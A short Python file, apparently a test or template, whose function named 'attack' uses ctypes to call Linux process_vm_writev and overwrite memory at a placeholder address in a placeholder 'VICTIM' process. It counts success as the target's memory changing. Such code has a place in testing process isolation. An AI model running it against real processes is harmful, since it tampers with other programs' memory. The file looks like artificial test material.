"""Write into another process's memory. Success: its memory changed."""

import ctypes


class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def attack():
    room = ctypes.create_string_buffer(b"x" * LENGTH, LENGTH)
    here, there = Part(ctypes.addressof(room), LENGTH), Part(ADDRESS, LENGTH)
    ctypes.CDLL(None).process_vm_writev(
        VICTIM, ctypes.byref(here), 1, ctypes.byref(there), 1, 0
    )
